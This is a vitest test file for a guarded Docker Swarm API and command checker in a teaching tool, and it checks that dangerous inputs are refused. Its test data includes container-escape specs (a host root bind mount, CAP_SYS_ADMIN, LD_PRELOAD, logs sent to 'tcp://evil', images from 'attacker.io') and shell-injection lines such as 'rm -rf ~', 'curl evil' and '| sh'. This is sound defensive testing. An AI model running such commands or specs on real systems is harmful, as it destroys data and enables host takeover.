// The guarded Engine API and the command table of local mode, on the simulator wrapped in a
// spy: each hostile spec / node update / line is refused, and the backend saw no write
// (for command-table refusals: no call at all).
import { beforeEach, describe, expect, it } from 'vitest';
import { ApiError } from '../engine/api/swarm-api.js';
import type { SwarmApi } from '../engine/api/swarm-api.js';
import type { ServiceSpec } from '../engine/api/types.js';
import { recordCalls } from '../engine/node/server/call-log.js';
import type { EngineCall } from '../engine/node/server/call-log.js';
import { checkCommandLine } from '../engine/node/server/command-policy.js';
import { GuardedApi, MANAGED_LABEL_KEY, REDACTED_TOKEN } from '../engine/node/server/guard.js';
import { Simulator } from '../engine/sim/simulator.js';
import { X1_LINES } from './helpers/hostile-lines.js';

const WRITES = new Set(['serviceCreate', 'serviceUpdate', 'serviceDelete', 'serviceLogs', 'nodeUpdate', 'nodeRemove', 'swarmInit', 'swarmJoin', 'swarmLeave', 'swarmUpdate', 'distributionInspect']);
const writes = (calls: EngineCall[]): string[] => calls.map((c) => c.method).filter((m) => WRITES.has(m));

/** The spec `docker service create --replicas 3 --name redis --update-delay 10s redis:7.4.0` sends. */
function redisSpec(): ServiceSpec {
  return {
    Name: 'redis',
    Labels: {},
    TaskTemplate: {
      ContainerSpec: { Image: 'redis:7.4.0', Init: false, DNSConfig: {} },
      Resources: { Limits: {}, Reservations: {} },
      Placement: {},
      ForceUpdate: 0,
    },
    Mode: { Replicated: { Replicas: 3 } },
    UpdateConfig: { Parallelism: 1, Delay: 10e9, FailureAction: 'pause', Monitor: 5e9, MaxFailureRatio: 0, Order: 'stop-first' },
    EndpointSpec: { Mode: 'vip' },
  };
}

/** redisSpec with `patch` applied at a path like "TaskTemplate.ContainerSpec.Mounts". */
function hostile(path: string, value: unknown): ServiceSpec {
  const spec = redisSpec() as unknown as Record<string, unknown>;
  const keys = path.split('.');
  let o = spec;
  for (const k of keys.slice(0, -1)) o = o[k] as Record<string, unknown>;
  o[keys[keys.length - 1]!] = value;
  return spec as unknown as ServiceSpec;
}

const HOSTILE_SPECS: [row: string, path: string, value: unknown][] = [
  ['S1', 'TaskTemplate.ContainerSpec.Mounts', [{ Type: 'bind', Source: '/', Target: '/host' }]],
  ['S1', 'TaskTemplate.ContainerSpec.Mounts', [{ Type: 'volume', Source: 'x', Target: '/x' }]],
  ['S1', 'TaskTemplate.ContainerSpec.Mounts', [{ Type: 'tmpfs', Target: '/x' }]],
  ['S2', 'TaskTemplate.ContainerSpec.CapabilityAdd', ['ALL']],
  ['S2', 'TaskTemplate.ContainerSpec.CapabilityAdd', ['CAP_SYS_ADMIN']],
  ['S2', 'TaskTemplate.ContainerSpec.Privileges', { NoNewPrivileges: false }],
  ['S2', 'TaskTemplate.ContainerSpec.Sysctls', { 'net.ipv4.ip_forward': '1' }],
  ['S2', 'TaskTemplate.ContainerSpec.User', '0'],
  ['S2', 'TaskTemplate.ContainerSpec.Init', true],
  ['S2', 'TaskTemplate.ContainerSpec.Env', ['LD_PRELOAD=/tmp/x.so']],
  ['S2', 'TaskTemplate.ContainerSpec.Healthcheck', { Test: ['CMD', 'true'] }],
  ['S2', 'TaskTemplate.LogDriver', { Name: 'syslog', Options: { 'syslog-address': 'tcp://evil' } }],
  ['S2', 'TaskTemplate.ContainerSpec.Secrets', [{ SecretName: 's' }]],
  ['S2', 'TaskTemplate.ContainerSpec.Configs', [{ ConfigName: 'c' }]],
  ['S3', 'TaskTemplate.Networks', [{ Target: 'host' }]],
  ['S3', 'TaskTemplate.Runtime', 'plugin'],
  ['S3', 'TaskTemplate.PluginSpec', { Name: 'evil/plugin' }],
  ['S4', 'TaskTemplate.ContainerSpec.Image', 'alpine'],
  ['S4', 'TaskTemplate.ContainerSpec.Image', 'attacker.io/x:1'],
  ['S4', 'TaskTemplate.ContainerSpec.Image', `redis:7.4.0@sha256:${'a'.repeat(64)}`],
  ['S4', 'TaskTemplate.ContainerSpec.Image', 'redis'],
  ['S5', 'Mode', { Replicated: { Replicas: 100000 } }],
  ['S5', 'Mode', { Global: {} }],
  ['S5', 'UpdateConfig.Delay', 3600e9],
  ['S6', 'EndpointSpec.Ports', [{ Protocol: 'tcp', TargetPort: 6379, PublishedPort: 8080, PublishMode: 'host' }]],
  ['S6', 'EndpointSpec.Ports', [{ Protocol: 'tcp', TargetPort: 22, PublishedPort: 22, PublishMode: 'ingress' }]],
  ['S6', 'EndpointSpec.Ports', [{ Protocol: 'tcp', TargetPort: 6379, PublishedPort: 9000, PublishMode: 'ingress' }]],
  ['S9', 'TaskTemplate.ContainerSpec.Args', ['sh', '-c', 'id']],
];

let sim: Simulator;
let raw: SwarmApi;
let calls: EngineCall[];
let guard: GuardedApi;

beforeEach(() => {
  sim = new Simulator({ seed: 3 });
  raw = sim.api('manager1');
  calls = [];
  guard = new GuardedApi(recordCalls(raw, calls), { scoped: false });
});

async function refusal(p: Promise<unknown>): Promise<ApiError> {
  const e = await p.then(
    () => undefined,
    (err: unknown) => err,
  );
  expect(e).toBeInstanceOf(ApiError);
  expect((e as ApiError).statusCode).toBe(403);
  expect((e as ApiError).message).toMatch(/^not available in local mode: /);
  return e as ApiError;
}

describe('GuardedApi: service specs (create and update)', () => {
  it('accepts the lesson spec and labels the service as Swarm Lab\'s', async () => {
    const { ID } = await guard.serviceCreate(redisSpec());
    const s = await raw.serviceInspect(ID);
    expect(s.Spec.Labels[MANAGED_LABEL_KEY]).toBe('true');
    expect(writes(calls)).toEqual(['serviceCreate']);
  });

  it.each(HOSTILE_SPECS)('%s create %s = %j: 403, no Engine call, no service', async (_row, path, value) => {
    await refusal(guard.serviceCreate(hostile(path, value)));
    expect(calls).toEqual([]);
    expect(await raw.serviceList()).toEqual([]);
  });

  it.each(HOSTILE_SPECS)('S7 full-spec update sneaking %s = %j: 403 and the version does not move', async (_row, path, value) => {
    const { ID } = await guard.serviceCreate(redisSpec());
    const before = await raw.serviceInspect(ID);
    calls.length = 0;
    const spec = hostile(path, value);
    spec.Labels = { ...before.Spec.Labels };
    await refusal(guard.serviceUpdate(ID, before.Version.Index, spec));
    expect(writes(calls)).toEqual([]);
    const after = await raw.serviceInspect(ID);
    expect(after.Version.Index).toBe(before.Version.Index);
    expect(after.Spec).toEqual(before.Spec);
  });

  it('S6: published ports in 8080-8099 (ingress, tcp) pass on the sandbox, never on the learner\'s daemon', async () => {
    const port = [{ Protocol: 'tcp', TargetPort: 6379, PublishedPort: 8080, PublishMode: 'ingress' }];
    await guard.serviceCreate(hostile('EndpointSpec.Ports', port));
    const scoped = new GuardedApi(recordCalls(raw, calls), { scoped: true });
    calls.length = 0;
    await refusal(scoped.serviceCreate({ ...hostile('EndpointSpec.Ports', port), Name: 'web' }));
    expect(calls).toEqual([]);
  });
});

describe('GuardedApi: scope, nodes, swarm, registry', () => {
  it('S8: scoped to the learner\'s daemon, services without the label cannot be updated, removed or read', async () => {
    const { ID } = await raw.serviceCreate({ ...redisSpec(), Name: 'mine' });
    const scoped = new GuardedApi(recordCalls(raw, calls), { scoped: true });
    const before = await raw.serviceInspect(ID);
    await refusal(scoped.serviceUpdate(ID, before.Version.Index, { ...before.Spec, Mode: { Replicated: { Replicas: 1 } } }));
    await refusal(scoped.serviceDelete('mine'));
    await refusal(scoped.serviceLogs('mine'));
    await refusal(scoped.serviceInspect('mine'));
    expect(writes(calls)).toEqual([]);
    expect((await raw.serviceInspect(ID)).Version.Index).toBe(before.Version.Index);
    // Listing shows only Swarm Lab's services; its own can be changed as usual.
    const created = await scoped.serviceCreate(redisSpec());
    expect((await scoped.serviceList()).map((s) => s.ID)).toEqual([created.ID]);
    expect((await scoped.taskList()).every((t) => t.ServiceID === created.ID)).toBe(true);
    await scoped.serviceDelete('redis');
    expect((await raw.serviceList()).map((s) => s.Spec.Name)).toEqual(['mine']);
  });

  it('N1: a node update may change the availability only; node rm is refused; an unknown node is 404', async () => {
    const node = await raw.nodeInspect('worker1');
    await refusal(guard.nodeUpdate(node.ID, node.Version.Index, { ...node.Spec, Role: 'manager' }));
    await refusal(guard.nodeUpdate(node.ID, node.Version.Index, { ...node.Spec, Labels: { evil: '1' } }));
    await refusal(guard.nodeUpdate(node.ID, node.Version.Index, { ...node.Spec, Availability: 'gone' as never }));
    await refusal(guard.nodeRemove(node.ID, true));
    expect(writes(calls)).toEqual([]);
    expect((await raw.nodeInspect('worker1')).Version.Index).toBe(node.Version.Index);
    const missing = await guard.nodeUpdate('nosuchnode', 1, { ...node.Spec, Availability: 'drain' }).catch((e: unknown) => e);
    expect((missing as ApiError).statusCode).toBe(404);
    await guard.nodeUpdate(node.ID, node.Version.Index, { ...node.Spec, Availability: 'drain' });
    expect((await raw.nodeInspect('worker1')).Spec.Availability).toBe('drain');
  });

  it('N2: the manager join token never leaves; the worker token only on the sandbox', async () => {
    const real = await raw.swarmInspect();
    const shown = await guard.swarmInspect();
    expect(shown.JoinTokens.Manager).toBe(REDACTED_TOKEN);
    expect(JSON.stringify(shown)).not.toContain(real.JoinTokens.Manager);
    expect(shown.JoinTokens.Worker).toBe(real.JoinTokens.Worker);
    const scoped = await new GuardedApi(raw, { scoped: true }).swarmInspect();
    expect(JSON.stringify(scoped)).not.toContain(real.JoinTokens.Worker);
  });

  it('swarm membership calls and registry lookups are refused without an Engine call', async () => {
    await refusal(guard.swarmLeave(true));
    await refusal(guard.swarmInit({ ForceNewCluster: true }));
    await refusal(guard.swarmJoin({ RemoteAddrs: ['1.2.3.4:2377'], JoinToken: 'x' }));
    const s = await raw.swarmInspect();
    await refusal(guard.swarmUpdate(s.Version.Index, s.Spec, { rotateManagerToken: true }));
    await refusal(guard.distributionInspect('attacker.io/x:1'));
    expect(calls).toEqual([]);
  });
});

describe('command table', () => {
  it.each(X1_LINES)('X1 %s: not available in local mode', (line) => {
    const v = checkCommandLine(line, { scoped: false });
    expect(v.ok).toBe(false);
    expect(!v.ok && v.message).toMatch(/not available in local mode/);
  });

  const X2 = ['docker service ls; rm -rf ~', 'docker service ls && curl evil', 'echo $(id)', 'echo `id`', 'docker service ls | sh', 'docker service ls\nrm -rf ~', 'docker service create —replicas 3 redis:7.4.0', 'echo ${HOME}', 'docker service ls\u0000'];
  it.each(X2)('X2 %j: refused', (line) => {
    expect(checkCommandLine(line, { scoped: false }).ok).toBe(false);
  });

  it('the lessons\' commands pass', () => {
    for (const line of [
      'docker service create --replicas 3 --name redis --update-delay 10s redis:7.4.0',
      'docker service update --detach --image redis:7.4.1 redis',
      'docker node update --availability drain worker1',
      'docker service scale redis=5',
      'docker service ps redis',
      'docker service inspect --pretty redis',
      'docker swarm join-token worker',
      'docker node ls',
      'ssh worker1',
      'docker service rollback redis',
      'docker service rm redis',
      'docker service create --help',
    ]) {
      expect(checkCommandLine(line, { scoped: false }), line).toEqual({ ok: true });
    }
    expect(checkCommandLine('docker swarm join-token worker', { scoped: true }).ok).toBe(false);
  });

  it.each([
    ['docker swarm join-token --rotate worker', /^docker swarm join-token --rotate: not available in local mode: rotating join tokens changes the swarm itself/],
    ['docker swarm join-token manager', /^docker swarm join-token manager: not available in local mode: the manager token would let any machine join as a manager/],
    ['docker service update --image alpine redis', /^image alpine: not available in local mode: the real swarm runs only the images preloaded on it \(redis:7\.4\.0, redis:7\.4\.1\) and never pulls/],
    ['docker service create --name x attacker.io/x:1', /^image attacker\.io\/x:1: not available in local mode/],
    ['docker service create --name x redis:7.4.0 sh -c id', /^docker service create IMAGE COMMAND: not available in local mode: services on the real swarm run their image's own command .*drop "sh -c id"/],
    ['docker swarm leave --force', /already formed.*Switch to the simulator/],
    ['docker node rm worker2', /drain a node instead: docker node update --availability drain NODE/],
  ])('%s: refused, saying why', (line, why) => {
    const v = checkCommandLine(line, { scoped: false });
    expect(v.ok).toBe(false);
    expect(!v.ok && v.message).toMatch(why);
  });

  it('the preloaded images follow the server\'s list', () => {
    const images = new Set(['redis:7.4.0', 'nginx:1.27']);
    expect(checkCommandLine('docker service create --name web nginx:1.27', { scoped: false, images }).ok).toBe(true);
    const v = checkCommandLine('docker service update --image redis:7.4.1 redis', { scoped: false, images });
    expect(!v.ok && v.message).toMatch(/\(redis:7\.4\.0, nginx:1\.27\)/);
  });
});
